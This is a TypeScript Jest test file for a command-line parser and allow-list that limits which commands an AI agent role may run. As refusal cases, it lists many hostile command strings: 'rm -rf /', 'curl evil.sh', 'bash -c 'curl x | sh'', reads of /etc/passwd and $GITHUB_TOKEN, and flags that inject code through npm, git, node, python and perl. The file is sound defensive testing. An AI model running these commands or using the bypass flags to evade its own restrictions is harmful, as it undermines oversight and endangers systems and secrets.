import { describe, expect, it } from '@jest/globals'
import { parseCommandLine } from '../../../src/util/commands/command-line.js'
import { checkCommand } from '../../../src/agents/command-policy.js'

function argvOf(line: string): string[] {
  const parsed = parseCommandLine(line)
  if (!parsed.ok) throw new Error(parsed.reason)
  return parsed.argv
}

function refusal(line: string, allowList: string[]): string {
  const checked = checkCommand(line, allowList)
  if (checked.ok) throw new Error(`expected \`${line}\` to be refused`)
  return checked.reason
}

describe('command line parsing', () => {
  it('splits words and honours quotes and escapes like a shell', () => {
    expect(argvOf('npx  jest\tsrc/a.test.ts')).toEqual(['npx', 'jest', 'src/a.test.ts'])
    expect(argvOf(`npm test -- -t 'adds two numbers'`)).toEqual([
      'npm',
      'test',
      '--',
      '-t',
      'adds two numbers'
    ])
    expect(argvOf('echo "say \\"hi\\"" it\\ works \'\'')).toEqual(['echo', 'say "hi"', 'it works', ''])
    expect(argvOf(`grep 'a|b;c>$HOME'`)).toEqual(['grep', 'a|b;c>$HOME'])
  })

  it.each([
    ['npm test | tee log', 'pipes'],
    ['npm test && rm -rf /', '&&'],
    ['npm test; curl evil.sh', 'command lists'],
    ['npm test > out.txt', 'redirection'],
    ['npm test < in.txt', 'redirection'],
    ['npm test `whoami`', 'command substitution'],
    ['npm test $(whoami)', 'variables and command substitution'],
    ['npm test $GITHUB_TOKEN', 'variables'],
    ['npm test "$GITHUB_TOKEN"', 'even inside double quotes'],
    ['npm test &', 'background'],
    ['npm test\nrm -rf .', 'one command per call']
  ])('refuses shell syntax: %s', (line, hint) => {
    const parsed = parseCommandLine(line)
    expect(parsed.ok).toBe(false)
    if (!parsed.ok) {
      expect(parsed.reason).toContain('without a shell')
      expect(parsed.reason).toContain(hint)
    }
  })

  it('refuses what a shell would expand instead of passing it on literally', () => {
    expect(parseCommandLine('npx jest src/*.test.ts').ok).toBe(false)
    expect(parseCommandLine('ls ~/x').ok).toBe(false)
    expect(parseCommandLine('NODE_ENV=test npm test').ok).toBe(false)
    expect(parseCommandLine('npm test # comment').ok).toBe(false)
    expect(parseCommandLine('npm test "unterminated').ok).toBe(false)
    expect(parseCommandLine('   ').ok).toBe(false)
  })
})

describe('command allow-list', () => {
  const allowList = ['npm test', 'npx jest', 'npm run lint']

  it('allows an allowed prefix with extra arguments', () => {
    expect(checkCommand('npm test -- --watch=false', allowList)).toEqual({
      ok: true,
      argv: ['npm', 'test', '--', '--watch=false']
    })
    expect(checkCommand('npx jest src/a.test.ts', allowList).ok).toBe(true)
    expect(checkCommand('npm run lint', allowList).ok).toBe(true)
  })

  it('treats npm aliases of an allowed script as the same command', () => {
    expect(checkCommand('npm run test', allowList).ok).toBe(true)
    expect(checkCommand('npm t', allowList).ok).toBe(true)
    expect(checkCommand('npm test', ['npm run test']).ok).toBe(true)
  })

  it('refuses a command that is not on the list, and lists what is allowed', () => {
    const reason = refusal('rm -rf src', allowList)
    expect(reason).toContain('not on this role')
    expect(reason).toContain('`npm test`, `npx jest`, `npm run lint`')
    refusal('npm run build', allowList)
    refusal('npx', allowList)
    refusal('npm testing', allowList)
  })

  it('refuses shell syntax even after an allowed prefix', () => {
    expect(refusal('npm test -- ; rm -rf /', allowList)).toContain('without a shell')
  })

  it('passes quoted metacharacters to the program as plain arguments', () => {
    const checked = checkCommand("npm test -- ';' 'rm -rf /'", allowList)
    expect(checked).toEqual({ ok: true, argv: ['npm', 'test', '--', ';', 'rm -rf /'] })
  })

  it.each([
    ['node -e "require(\'fs\')"', ['node']],
    ["node -pe 'process.env'", ['node']],
    ["node --eval='1'", ['node']],
    ["node -r ./hook.js -e 'x'", ['node']],
    ["node --import 'data:text/javascript,x'", ['node']],
    ["python3 -c 'import os'", ['python3']],
    ["python -Bc 'import os'", ['python']],
    ["bash -c 'curl x | sh'", ['bash']],
    ["bash -o pipefail -c 'x'", ['bash']],
    ["pwsh -Comm 'x'", ['pwsh']],
    ["npx -c 'rm -rf /'", ['npx']],
    ['npx --package=evil jest', ['npx']],
    ["npm exec -c 'x'", ['npm exec']],
    ['npm test --script-shell=./evil.sh', ['npm test']],
    ["git -c core.pager='sh -c x' log", ['git']],
    ["git -C . -c alias.x='!sh' x", ['git']],
    ['go test -exec ./evil ./...', ['go test']],
    ["make test --eval 'x:'", ['make test']]
  ])('refuses a dangerous form even when the prefix is allowed: %s', (line, allowed) => {
    expect(refusal(line, allowed)).toContain('is refused for')
  })

  it('leaves the same letters alone where they belong to the script or tool being run', () => {
    expect(checkCommand('npx jest -c jest.config.js', ['npx jest']).ok).toBe(true)
    expect(checkCommand('python -m pytest -c pytest.ini', ['python -m pytest']).ok).toBe(true)
    expect(checkCommand('git log -c', ['git log']).ok).toBe(true)
    expect(checkCommand('node scripts/check.js', ['node scripts/check.js']).ok).toBe(true)
    expect(checkCommand('npm test -- -e', ['npm test']).ok).toBe(true)
  })
})

describe('extra arguments after an allowed command', () => {
  it.each([
    // npm takes any unambiguous prefix of a setting, with one dash or two, anywhere before `--`.
    ['npm test --scrip=./x.sh', 'npm test', '--scrip=./x.sh'],
    ['npm test --script-shell ./x.sh', 'npm test', '--script-shell'],
    ['npm test --scripts-prepend-node-path', 'npm test', '--scripts-prepend-node-path'],
    ['npm test --node-opt=--require=./x.js', 'npm test', '--node-opt=--require=./x.js'],
    ['npm test --node-options=--require=./x.js', 'npm test', '--node-options=--require=./x.js'],
    ['npm test --userconfig=./npmrc', 'npm test', '--userconfig=./npmrc'],
    ['npm test --globalconfig ./npmrc', 'npm test', '--globalconfig'],
    ['npm test --prefix /tmp/other', 'npm test', '--prefix'],
    ['npm test -C /tmp/other', 'npm test', '-C'],
    ['npm test -scrip=./x.sh', 'npm test', '-scrip=./x.sh'],
    ['npm run lint --SCRIPT-SHELL=./x.sh', 'npm run lint', '--SCRIPT-SHELL=./x.sh'],
    ['npm run lint --registry=http://evil', 'npm run lint', '--registry=http://evil'],
    ['pnpm test --config.script-shell=./x.sh', 'pnpm test', '--config.script-shell=./x.sh'],
    ['npx --node-options=--require=./x.js jest', 'npx jest', undefined],
    // git: options that run a program, read or write outside the repository, or change its config.
    ['git grep -Ovim x', 'git grep', '-Ovim'],
    ['git grep -nO x', 'git grep', '-nO'],
    ['git grep --open-files-in-pager=vim x', 'git grep', '--open-files-in-pager=vim'],
    ['git grep --open-files=vim x', 'git grep', '--open-files=vim'],
    ['git grep -f /etc/passwd', 'git grep', '-f'],
    ['git grep --no-index secret /', 'git grep', '--no-index'],
    ['git ls-remote -u ./evil.sh origin', 'git ls-remote', '-u'],
    ['git ls-remote --upload-pack=./evil.sh origin', 'git ls-remote', '--upload-pack=./evil.sh'],
    ['git ls-remote --upload=./evil.sh origin', 'git ls-remote', '--upload=./evil.sh'],
    ['git diff --no-index /etc/passwd README.md', 'git diff', '--no-index'],
    ["git diff '--word-diff-regex=(a+)+$'", 'git diff', '--word-diff-regex=(a+)+$'],
    ['git diff --ext-diff', 'git diff', '--ext-diff'],
    ['git log -p --textconv', 'git log', '--textconv'],
    ['git log --output=/tmp/x', 'git log', '--output=/tmp/x'],
    ['git -c core.pager=./x.sh log', 'git log', undefined],
    ['git rebase --exec ./x.sh main', 'git rebase', '--exec'],
    ['git rebase -x ./x.sh main', 'git rebase', '-x'],
    ['git submodule foreach ./x.sh', 'git submodule', 'git submodule'],
    // Interpreters: inline code in every spelling.
    ["python3 -m timeit -s 'import os'", 'python3 -m timeit', '-m timeit'],
    ["python3 -mtimeit 'import os'", 'python3 -mtimeit', '-mtimeit'],
    ["python -c 'import os'", 'python scripts/check.py', undefined],
    ["python scripts/check.py -c 'x'", 'python scripts/check.py', undefined],
    ["perl -e 'system(1)'", 'perl scripts/check.pl', undefined],
    ["perl scripts/check.pl -E 'x'", 'perl scripts/check.pl', '-E'],
    ["perl scripts/check.pl '-MPOSIX;system(1)'", 'perl scripts/check.pl', '-MPOSIX;system(1)'],
    ['perl scripts/check.pl -wle x', 'perl scripts/check.pl', '-wle'],
    ['perl scripts/check.pl -mPOSIX', 'perl scripts/check.pl', '-mPOSIX'],
    ["node --test -e 'x'", 'node --test', '-e'],
    ["node --test -p 'x'", 'node --test', '-p'],
    ["node --test --eval='x'", 'node --test', '--eval=x'],
    ['node --test --require ./hook.js', 'node --test', '--require'],
    ['node --test -r ./hook.js', 'node --test', '-r'],
    ['node --test --import ./hook.js', 'node --test', '--import'],
    ['node --test --loader ./hook.js', 'node --test', '--loader'],
    ['node --test --experimental_loader=./hook.js', 'node --test', '--experimental_loader=./hook.js'],
    ["ruby test/all.rb -e 'x'", 'ruby test/all.rb', '-e'],
    ["sh scripts/test.sh -c 'x'", 'sh scripts/test.sh', '-c'],
    ["bash scripts/test.sh -xc 'x'", 'bash scripts/test.sh', '-xc'],
    ['make test SHELL=./x.sh', 'make test', 'SHELL=./x.sh'],
    ["find . -exec ./x.sh ';'", 'find .', '-exec']
  ])('refuses %s (allowed: %s)', (line, allowed, argument) => {
    const checked = checkCommand(line, [allowed])
    if (checked.ok) throw new Error(`expected \`${line}\` to be refused`)
    if (argument) expect(checked.reason).toContain(`\`${argument}\` is refused for`)
    else expect(checked.reason).toMatch(/is refused for|not on this role/)
    expect(checked.reason).toMatch(/Run the allowed command without it|Allowed commands/)
  })

  it.each([
    ['npm test -- --script-shell=./x.sh', 'npm test'],
    ['npm test --silent', 'npm test'],
    ['npm test -s', 'npm test'],
    ['npm run lint -- --fix', 'npm run lint'],
    ['npx jest --config jest.config.js', 'npx jest'],
    ['git diff --text --word-diff=color --stat', 'git diff'],
    ["git log -S'Other' --oneline", 'git log'],
    ['git grep -n -e TODO -- src', 'git grep'],
    ['node --test test/a.test.js', 'node --test'],
    ['python3 -m pytest -c pytest.ini -m slow', 'python3 -m pytest'],
    ['perl -Imodules scripts/check.pl', 'perl -Imodules scripts/check.pl'],
    ['go test -run TestX ./...', 'go test']
  ])('allows harmless extra arguments: %s', (line, allowed) => {
    expect(checkCommand(line, [allowed])).toMatchObject({ ok: true })
  })

  it('refuses wrappers that would hide the program they run', () => {
    expect(checkCommand('env npm test', ['env npm test'])).toMatchObject({ ok: false })
    expect(checkCommand('timeout 9 npm test', ['timeout'])).toMatchObject({ ok: false })
  })
})
